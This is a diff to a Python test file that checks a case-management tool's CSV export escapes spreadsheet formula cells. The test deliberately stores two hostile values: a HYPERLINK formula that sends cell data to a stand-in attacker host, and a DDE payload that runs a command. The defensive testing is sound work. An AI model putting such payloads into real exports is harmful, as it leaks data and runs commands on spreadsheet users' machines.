@@ -8,6 +8,7 @@ The caseload is built with the API (as in test_cli.py, whose runner and helpers 
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import hashlib
 import io
 import json
@@ -530,3 +531,58 @@ def test_json_paths_do_not_import_rich(db: Path, tmp_path: Path) -> None:
         imported = {line.split("|")[-1].strip() for line in done.stderr.splitlines() if "|" in line}
         assert "se_flow._export" in imported, args
         assert not {name for name in imported if name.split(".")[0] == "rich"}, args
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(
+    run: CLI, db: Path, tmp_path: Path
+) -> None:
+    link = '=HYPERLINK("http://evil.example/?x="&A1,"open me")'
+    with se_flow.open(db) as flow:
+        try:
+            flow.add_staff("@ops", "Ops Desk", "coach", actor="ada")
+        except se_flow.InvalidInput:
+            pytest.skip("staff ids now refuse a leading formula character at entry")
+        case = flow.refer(
+            se_flow.PersonalDetails(name=link, contact="+44 7700 900999"),
+            source="GP",
+            coach="@ops",
+            actor="@ops",
+        ).id
+        flow.advance(case, "engage", actor="@ops")
+        flow.pause(
+            case,
+            reason="+cmd|' /C calc'!A0",
+            review_date=dt.date.today() + dt.timedelta(days=14),
+            actor="@ops",
+        )
+    out = tmp_path / "review"
+    ok(run("export", str(out), "--include-personal-data", actor="ada"))
+    rows = read_rows(out, "csv")
+
+    client = next(c for c in rows["clients"] if c["case_id"] == case)
+    assert client["name"] == "'" + link
+    assert client["contact"] == "'+44 7700 900999"
+    assert client["coach"] == "'@ops"
+    spells = [s for s in rows["stage_histories"] if s["case_id"] == case]
+    assert spells and {s["actor"] for s in spells} == {"'@ops"}
+    assert all(not v.startswith(("=", "+", "-", "@")) for s in spells for v in s.values())
+    # events.csv stays exactly as stored, so it still re-verifies; the manifest says how to open.
+    events = [e for e in rows["events"] if e["case_id"] == case]
+    assert {e["actor"] for e in events} == {"@ops"}
+    assert "+cmd|' /C calc'!A0" in {e["reason"] for e in events}
+    assert "import" in manifest(out)["csv_safety"] and "events.csv" in manifest(out)["csv_safety"]
+    ok(run("audit", "verify-export", str(out)))
+    # Only CSV is escaped: JSON holds the text as it is.
+    ok(
+        run(
+            "export",
+            str(tmp_path / "as-json"),
+            "--format",
+            "jsonl",
+            "--include-personal-data",
+            actor="ada",
+        )
+    )
+    clients = read_rows(tmp_path / "as-json", "jsonl")["clients"]
+    assert next(c for c in clients if c["case_id"] == case)["name"] == link
+    assert "csv_safety" not in manifest(tmp_path / "as-json")
